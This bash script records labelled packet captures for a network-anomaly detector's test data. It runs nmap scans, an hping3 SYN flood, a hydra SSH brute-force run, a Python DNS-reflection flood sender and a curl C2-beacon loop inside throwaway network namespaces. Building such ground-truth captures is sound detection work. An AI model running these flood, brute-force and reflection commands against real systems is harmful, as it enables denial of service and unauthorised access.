#!/usr/bin/env bash
# shellcheck disable=SC2016 # bash -c bodies expand inside their namespace
# Records the labeled captures in testdata/labeled/ from real attack tools
# (nmap, hping3, hydra) and small Python/curl clients, each inside network
# namespaces this script creates and removes again. Every capture is taken
# on the border link of a router namespace, both directions on one
# interface, the way a border NetFlow exporter sees traffic.
#
#   sudo scripts/record-labeled.sh            # record every capture
#   sudo scripts/record-labeled.sh beacon     # record some of them
#   scripts/record-labeled.sh --list          # names
#
# Needs root and: nmap hping3 hydra ncat openssh-server tcpdump curl
# python3 ethtool iproute2 gzip (Debian: apt-get install -y nmap hping3
# hydra ncat openssh-server tcpdump curl python3 ethtool). Re-runnable: each
# capture and its NAME.yaml are overwritten. A full run takes about 8 minutes.
#
# Address plan (see testdata/labeled/README.md):
#   domestic  198.51.100.0/24  (TEST-NET-2) behind router ns acdl-router,
#                              router's LAN address 198.51.100.1
#   external  203.0.113.0/24   (TEST-NET-3) attackers, C2, reflectors
#             192.0.2.0/24     (TEST-NET-1) benign Internet servers and clients
#   uplink    10.255.0.0/30    router <-> acdl-inet (never in captured packets:
#                              the router sources its ICMP from 198.51.100.1)
set -euo pipefail

cd "$(dirname "$0")/.."
OUT=testdata/labeled
ALL=(nmap-syn-horizontal nmap-vertical nmap-slow hping3-syn-flood beacon bruteforce-ssh dns-reflection)
P=acdl # prefix of every namespace this script creates
SNAPLEN=96

if [ "${1:-}" = "--list" ]; then printf '%s\n' "${ALL[@]}"; exit 0; fi
if [ "$(id -u)" -ne 0 ]; then echo "record-labeled: needs root (network namespaces)" >&2; exit 2; fi
for t in nmap hping3 hydra ncat tcpdump curl python3 ethtool ip gzip /usr/sbin/sshd; do
  command -v "$t" >/dev/null || { echo "record-labeled: $t missing (see the header of $0)" >&2; exit 2; }
done
names=("$@")
[ ${#names[@]} -gt 0 ] || names=("${ALL[@]}")
for n in "${names[@]}"; do
  [[ " ${ALL[*]} " == *" $n "* ]] || { echo "record-labeled: unknown capture $n (--list)" >&2; exit 2; }
done
mkdir -p "$OUT"

WORK=$(mktemp -d /tmp/acdl.XXXXXX)
TCPDUMP_PID=""

# ---------------------------------------------------------------- topology

nsx() { local ns=$1; shift; ip netns exec "$P-$ns" "$@"; }

# mkns NAME: a namespace with lo up and IPv6 off (no RS/MLD noise).
mkns() {
  ip netns add "$P-$1"
  nsx "$1" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  nsx "$1" ip link set lo up
}

# nooffload NS DEV: real-sized packets on the wire (no TSO/GSO/GRO super-packets).
nooffload() { nsx "$1" ethtool -K "$2" tso off gso off gro off tx off rx off >/dev/null 2>&1 || true; }

# host SIDE NAME ADDR...: a namespace NAME with one interface on the
# domestic (dom) or external (ext) bridge carrying the given addresses;
# the first is the primary source address.
host() {
  local side=$1 name=$2; shift 2
  local br gw pfx
  if [ "$side" = dom ]; then br=router:br0; gw=198.51.100.1; else br=inet:br0; gw=203.0.113.1; fi
  mkns "$name"
  ip link add "a-$name" type veth peer name eth0 netns "$P-$name"
  ip link set "a-$name" netns "$P-${br%%:*}"
  nsx "${br%%:*}" ip link set "a-$name" master br0 up
  nooffload "${br%%:*}" "a-$name"
  nooffload "$name" eth0
  for a in "$@"; do
    case $a in 198.51.100.*|203.0.113.*|192.0.2.*) pfx=24 ;; esac
    nsx "$name" ip addr add "$a/$pfx" dev eth0
  done
  nsx "$name" ip link set eth0 up
  case $1 in 192.0.2.*) gw=192.0.2.1 ;; esac
  nsx "$name" ip route add default via "$gw" src "$1"
}

topology() {
  mkns router
  mkns inet
  for ns in router inet; do
    nsx $ns sysctl -qw net.ipv4.ip_forward=1
    nsx $ns ip link add br0 type bridge
    nsx $ns ip link set br0 up
  done
  ip link add up0 netns "$P-router" type veth peer name up1 netns "$P-inet"
  nsx router ip addr add 10.255.0.2/30 dev up0
  nsx inet ip addr add 10.255.0.1/30 dev up1
  nsx router ip link set up0 up
  nsx inet ip link set up1 up
  nooffload router up0
  nooffload inet up1
  nsx router ip addr add 198.51.100.1/24 dev br0
  nsx inet ip addr add 203.0.113.1/24 dev br0
  nsx inet ip addr add 192.0.2.1/24 dev br0
  nsx router ip route add default via 10.255.0.1 src 198.51.100.1
  nsx inet ip route add 198.51.100.0/24 via 10.255.0.2
}

# ---------------------------------------------------------------- cleanup

teardown() {
  local ns pid
  if [ -n "$TCPDUMP_PID" ]; then kill "$TCPDUMP_PID" 2>/dev/null || true; TCPDUMP_PID=""; fi
  for ns in $(ip netns list | awk '{print $1}' | grep "^$P-" || true); do
    for pid in $(ip netns pids "$ns" 2>/dev/null); do kill "$pid" 2>/dev/null || true; done
  done
  sleep 0.3
  for ns in $(ip netns list | awk '{print $1}' | grep "^$P-" || true); do
    for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$pid" 2>/dev/null || true; done
    ip netns del "$ns" 2>/dev/null || true
  done
}
trap 'teardown; rm -rf "$WORK"' EXIT
trap 'exit 130' INT TERM

# ---------------------------------------------------------------- helpers

# bg NS CMD...: run CMD in namespace NS in the background, output to the log.
bg() { local ns=$1; shift; nsx "$ns" "$@" >>"$WORK/log" 2>&1 & }

capture_start() {
  rm -f "$WORK/cap.pcap"
  ip netns exec "$P-router" tcpdump -i up0 -s "$SNAPLEN" -U -n -w "$WORK/cap.pcap" ip 2>>"$WORK/log" &
  TCPDUMP_PID=$!
  for _ in $(seq 50); do [ -s "$WORK/cap.pcap" ] && break; sleep 0.1; done
  sleep 0.5
}

capture_stop() { # NAME
  sleep 1
  kill -INT "$TCPDUMP_PID"; wait "$TCPDUMP_PID" 2>/dev/null || true; TCPDUMP_PID=""
  gzip -9 -n -c "$WORK/cap.pcap" >"$OUT/$1.pcap.gz"
}

sshd_on() { # NS ADDR
  mkdir -p /run/sshd
  bg "$1" /usr/sbin/sshd -D -e -o ListenAddress="$2" -o PidFile=none \
    -o PasswordAuthentication=yes -o PermitRootLogin=yes -o MaxStartups=64 -o MaxAuthTries=3 -o UsePAM=no
}

http_on() { # NS ADDR PORT
  mkdir -p "$WORK/www"
  head -c 600 /dev/zero | tr '\0' a >"$WORK/www/index.html"
  head -c 24000 /dev/zero | tr '\0' b >"$WORK/www/news.html"
  head -c 3000 /dev/zero | tr '\0' c >"$WORK/www/gate.php"
  (cd "$WORK/www" && nsx "$1" python3 -m http.server --bind "$2" "$3" >>"$WORK/log" 2>&1 &)
}

wait_port() { # NS ADDR PORT
  for _ in $(seq 50); do
    nsx "$1" bash -c "exec 3<>/dev/tcp/$2/$3" 2>/dev/null && return 0
    sleep 0.1
  done
  echo "record-labeled: nothing listens on $2:$3" >&2; return 1
}

ver() { dpkg-query -W -f='${Version}' "$1" 2>/dev/null || echo unknown; }

# write_yaml NAME DESCRIPTION LABEL... (LABEL = address:role)
write_yaml() {
  local name=$1 desc=$2; shift 2
  {
    echo "# Generated by scripts/record-labeled.sh: do not edit, re-record."
    echo "capture: $name.pcap.gz"
    echo "description: |"
    printf '%s\n' "$desc" | sed 's/^/  /'
    echo "  Recorded $(date -u +%Y-%m-%d) on Linux $(uname -r), Debian packages: nmap $(ver nmap),"
    echo "  hping3 $(ver hping3), hydra $(ver hydra), ncat $(ver ncat), openssh-server $(ver openssh-server),"
    echo "  tcpdump $(ver tcpdump), curl $(ver curl); $(python3 --version). Captured with"
    echo "  'tcpdump -i up0 -s $SNAPLEN -w' on the router's uplink (filter 'ip'), gzip -9."
    echo "domestic: [198.51.100.0/24]"
    if [ $# -eq 0 ]; then echo "labels: []"; else echo "labels:"; fi
    local l
    for l in "$@"; do echo "  - {address: ${l%%:*}, role: ${l#*:}}"; done
  } >"$OUT/$name.yaml"
}

# A domestic LAN with a few live hosts: .10 runs sshd and web/mail-ish
# listeners, .11 and .12 answer on 22 (ncat), .20 is up with no listener;
# the rest of the /24 is dark (the router answers ARP failures with ICMP
# host unreachable, rate-limited).
victims() {
  host dom v10 198.51.100.10
  host dom v11 198.51.100.11
  host dom v12 198.51.100.12
  host dom v20 198.51.100.20
  sshd_on v10 198.51.100.10
  http_on v10 198.51.100.10 80
  bg v10 ncat -lk 198.51.100.10 443 --sh-exec true
  bg v10 ncat -lk 198.51.100.10 25 --sh-exec "echo 220 mail ESMTP"
  bg v11 ncat -lk 198.51.100.11 22 --sh-exec "echo SSH-2.0-OpenSSH_9.2"
  bg v12 ncat -lk 198.51.100.12 22 --sh-exec "echo SSH-2.0-OpenSSH_8.4"
  wait_port v10 198.51.100.10 22
  wait_port v11 198.51.100.11 22
  wait_port v12 198.51.100.12 22
  wait_port v10 198.51.100.10 80
}

# ---------------------------------------------------------------- captures

rec_nmap-syn-horizontal() {
  victims
  host ext scan 203.0.113.10
  capture_start
  nsx scan nmap -sS -Pn -n -p 22 --max-rate 100 198.51.100.0/24 >>"$WORK/log"
  capture_stop nmap-syn-horizontal
  write_yaml nmap-syn-horizontal \
"Horizontal SYN scan of port 22 over the domestic /24 (256 addresses: 4 live
hosts with port 22 open or closed, the router at .1, the rest dark) from one
scanner: nmap -sS -Pn -n -p 22 --max-rate 100 198.51.100.0/24" \
    203.0.113.10:scanner
}

rec_nmap-vertical() {
  victims
  host ext scan 203.0.113.11
  capture_start
  nsx scan nmap -sS -Pn -n 198.51.100.10 >>"$WORK/log"
  capture_stop nmap-vertical
  write_yaml nmap-vertical \
"Vertical SYN scan of nmap's top 1000 TCP ports on one live domestic host
(sshd, http, smtp, https open; the rest closed, answered with RST), default
timing (-T3): nmap -sS -Pn -n 198.51.100.10" \
    203.0.113.11:scanner
}

rec_nmap-slow() {
  victims
  host ext scan 203.0.113.12
  capture_start
  nsx scan nmap -sS -Pn -n -p 445 --max-rate 0.5 --max-retries 0 198.51.100.1-40 >>"$WORK/log"
  capture_stop nmap-slow
  write_yaml nmap-slow \
"Slow horizontal SYN scan of port 445 over 40 domestic addresses, one probe
every 2 s (no retransmissions), from one scanner:
nmap -sS -Pn -n -p 445 --max-rate 0.5 --max-retries 0 198.51.100.1-40" \
    203.0.113.12:scanner
}

rec_hping3-syn-flood() {
  victims
  local i srcs=() labels=()
  for i in $(seq 30 49); do host ext "bot$i" "203.0.113.$i"; srcs+=("bot$i"); labels+=("203.0.113.$i:ddos-source"); done
  host ext bgc 192.0.2.30 192.0.2.31 192.0.2.32
  capture_start
  # benign clients of the victim's web server, before, during and after the flood
  bg bgc bash -c 'for i in $(seq 40); do for a in 192.0.2.30 192.0.2.31 192.0.2.32; do
      curl -s -m 3 -o /dev/null --interface $a http://198.51.100.10/index.html; done; sleep 0.$((RANDOM%9+1)); done'
  sleep 3
  for i in "${srcs[@]}"; do bg "$i" timeout -s INT 5 hping3 -q -S -p 80 -i u5000 198.51.100.10; done
  sleep 5.5
  sleep 3
  capture_stop hping3-syn-flood
  write_yaml hping3-syn-flood \
"SYN flood of 198.51.100.10:80 (a web server, answering with SYN-ACKs and
SYN cookies; the bots' kernels answer those with RST) from 20 bots, each
'timeout -s INT 5 hping3 -q -S -p 80 -i u5000 198.51.100.10' (about 200
SYN/s each, 4000/s in all, 5 s, real source addresses 203.0.113.30-49;
hping3 varies the source port per packet), while three benign
clients (192.0.2.30-32, not labelled) fetch http://198.51.100.10/index.html
with curl before, during and after the flood." \
    "${labels[@]}" 198.51.100.10:ddos-victim
}

rec_beacon() {
  host dom inf 198.51.100.50
  host dom cl1 198.51.100.51
  host dom cl2 198.51.100.52
  host dom cl3 198.51.100.53
  host ext c2 203.0.113.50
  host ext web 192.0.2.10 192.0.2.11 192.0.2.12
  host ext ntp 192.0.2.123
  http_on c2 203.0.113.50 80
  for a in 192.0.2.10 192.0.2.11 192.0.2.12; do http_on web $a 80; done
  bg ntp python3 "$WORK/ntp.py" server 192.0.2.123
  wait_port c2 203.0.113.50 80
  for a in 192.0.2.10 192.0.2.11 192.0.2.12; do wait_port web $a 80; done
  capture_start
  # the infected host: 25 check-ins, every 10 s +-20 % (uniform)
  bg inf bash -c 'for i in $(seq 25); do
      curl -s -m 3 -o /dev/null "http://203.0.113.50/gate.php?id=4f1c&n=$i"
      [ $i = 25 ] || sleep $(awk -v r=$RANDOM "BEGIN{printf \"%.3f\", 10*(0.8+0.4*r/32767)}"); done'
  # background: irregular browsing (exponential gaps, mean 4 s) to three web servers
  for c in cl1 cl2; do
    bg $c bash -c 'for i in $(seq 60); do
        s=192.0.2.1$((RANDOM%3)); p=$([ $((RANDOM%2)) = 0 ] && echo index.html || echo news.html)
        curl -s -m 3 -o /dev/null http://$s/$p
        sleep $(awk -v r=$RANDOM "BEGIN{printf \"%.3f\", -4*log((r+1)/32768)}"); done'
  done
  # background: NTP-like poll every 8 s from one client
  bg cl3 python3 "$WORK/ntp.py" client 192.0.2.123 8 32
  sleep 2; wait_jobs_in inf 400
  capture_stop beacon
  write_yaml beacon \
"Beaconing: the infected domestic host 198.51.100.50 fetches
http://203.0.113.50/gate.php (3 KB) with curl 25 times, sleeping
10 s x uniform(0.8, 1.2) between check-ins (about 4 minutes). Background, not
labelled: 198.51.100.51 and .52 fetch index.html (600 B) or news.html (24 KB)
from 192.0.2.10-12 with curl, exponential gaps of mean 4 s (up to 60
fetches each, cut at the end of the capture); 198.51.100.53 sends a 48-byte
NTP client request to 192.0.2.123:123 from one client port every 8 s (up to
32 polls, answered by a small Python server). The infected host
is labelled c2-client (not a suspect role: evidence of the C2 server)." \
    203.0.113.50:c2 198.51.100.50:c2-client
}

rec_bruteforce-ssh() {
  victims
  host ext brute 203.0.113.20
  seq -f 'guess%03g' 120 >"$WORK/passwords.txt"
  capture_start
  nsx brute hydra -v -I -w 3 -l root -P "$WORK/passwords.txt" -t 4 ssh://198.51.100.10 >>"$WORK/log" 2>&1 || true
  capture_stop bruteforce-ssh
  write_yaml bruteforce-ssh \
"SSH password guessing against OpenSSH on 198.51.100.10 (password
authentication on, root login allowed, MaxAuthTries 3, UsePAM no so no PAM
failure delay; no password matches) with hydra, 120 passwords for root, 4
parallel tasks, 3 s response timeout:
hydra -v -I -w 3 -l root -P passwords.txt -t 4 ssh://198.51.100.10
(passwords.txt: guess001 .. guess120). Every connection is a full SSH
session (banner, key exchange, up to 3 password attempts, disconnect), a
few KB and about 25 packets." \
    203.0.113.20:bruteforce
}

rec_dns-reflection() {
  host dom v10 198.51.100.10
  host dom cl1 198.51.100.51
  local refl=() labels=() i
  for i in $(seq 100 139); do refl+=("203.0.113.$i"); labels+=("203.0.113.$i:reflector"); done
  host ext refl "${refl[@]}"
  host ext dns 192.0.2.53
  bg dns python3 "$WORK/dns.py" server 192.0.2.53
  capture_start
  # background: real-looking resolver traffic from a domestic client
  bg cl1 python3 "$WORK/dns.py" client 192.0.2.53 0.25 40
  sleep 2
  nsx refl python3 "$WORK/dns.py" reflect 198.51.100.10 3000 5 "${refl[@]}" >>"$WORK/log" 2>&1
  sleep 3
  capture_stop dns-reflection
  write_yaml dns-reflection \
"DNS reflection: 40 open resolvers (203.0.113.100-139, addresses of one
namespace) send unsolicited DNS responses (UDP source port 53, 1200-1450
byte payloads: ANY answers to spoofed queries the capture does not show)
to random high ports of 198.51.100.10, together 3000 responses/s for 5 s
(python3 dns.py reflect, embedded in scripts/record-labeled.sh); the victim
answers some with ICMP port unreachable (rate-limited by its kernel).
Background, not labelled: 198.51.100.51 sends a small DNS query every 0.25 s
(40 in all) to the resolver 192.0.2.53, which answers." \
    "${labels[@]}" 198.51.100.10:ddos-victim
}

# wait_jobs_in NS TIMEOUT: wait until no process runs in NS (or TIMEOUT s).
wait_jobs_in() {
  for _ in $(seq "$2"); do [ -z "$(ip netns pids "$P-$1")" ] && return 0; sleep 1; done
}

# ---------------------------------------------------------------- python helpers

cat >"$WORK/ntp.py" <<'EOF'
"""NTP-like poller and server: 48-byte mode 3 requests, mode 4 replies."""
import socket, struct, sys, time
mode, addr = sys.argv[1], sys.argv[2]
if mode == "server":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, 123))
    while True:
        req, peer = s.recvfrom(512)
        t = int(time.time()) + 2208988800
        s.sendto(struct.pack("!BBbb11I", 0x24, 2, 6, -20, 0, 0, 0, t, 0, t, 0, t, 0, t, 0), peer)
else:
    every, n = float(sys.argv[3]), int(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("", 0))  # one client port for every poll, as ntpd/chrony keep
    s.settimeout(1)
    for _ in range(n):
        s.sendto(b"\x23" + b"\0" * 47, (addr, 123))
        try:
            s.recvfrom(512)
        except socket.timeout:
            pass
        time.sleep(every)
EOF

cat >"$WORK/dns.py" <<'EOF'
"""DNS helper: resolver (server), stub client, and reflection sender."""
import random, socket, struct, sys, time

def query(qid, name):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", 1, 1)

def response(qid, name, size):
    q = query(qid, name)[12:]
    head = struct.pack("!HHHHHH", qid, 0x8180, 1, 20, 0, 1)
    return head + q + bytes(random.getrandbits(8) for _ in range(size - len(head) - len(q)))

mode = sys.argv[1]
if mode == "server":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((sys.argv[2], 53))
    while True:
        req, peer = s.recvfrom(512)
        s.sendto(req[:2] + b"\x81\x80" + req[4:6] + b"\x00\x01\x00\x00\x00\x00" + req[12:] +
                 b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04\xc0\x00\x02\x50", peer)
elif mode == "client":
    srv, every, n = sys.argv[2], float(sys.argv[3]), int(sys.argv[4])
    names = ["www.example.com", "mail.example.org", "cdn.example.net", "api.example.com"]
    for i in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        s.sendto(query(random.getrandbits(16), random.choice(names)), (srv, 53))
        try:
            s.recvfrom(512)
        except socket.timeout:
            pass
        s.close()
        time.sleep(every)
else:  # reflect VICTIM RATE SECONDS REFLECTOR...
    victim, rate, secs, refl = sys.argv[2], float(sys.argv[3]), float(sys.argv[4]), sys.argv[5:]
    socks = []
    for a in refl:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((a, 53))
        socks.append(s)
    # a pool of responses; each reflector answers a few spoofed query ports
    pool = [response(random.getrandbits(16), "example.com", random.randint(1200, 1450)) for _ in range(64)]
    ports = [[random.randint(1024, 65535) for _ in range(4)] for _ in socks]
    start, sent = time.monotonic(), 0
    while True:
        now = time.monotonic() - start
        if now >= secs:
            break
        due = int(now * rate)
        while sent < due:
            i = random.randrange(len(socks))
            try:
                socks[i].sendto(random.choice(pool), (victim, random.choice(ports[i])))
            except OSError:
                pass
            sent += 1
        time.sleep(0.001)
    print(f"sent {sent} responses in {secs} s", file=sys.stderr)
EOF

# ---------------------------------------------------------------- main

summary() { # NAME
  local f="$OUT/$1.pcap.gz"
  zcat "$f" | tcpdump -r - -n -tt 2>/dev/null |
    awk -v n="$1" -v gz="$(stat -c %s "$f")" 'NR==1{f=$1} {l=$1} END{printf "%-22s %8d packets %8.2f s %8d bytes gz\n", n, NR, l-f, gz}'
}

for n in "${names[@]}"; do
  echo "record-labeled: $n" >&2
  : >"$WORK/log"
  teardown
  topology
  "rec_$n"
  teardown
  [ -z "${ACDL_LOG:-}" ] || cp "$WORK/log" "$ACDL_LOG.$n"
  summary "$n"
done
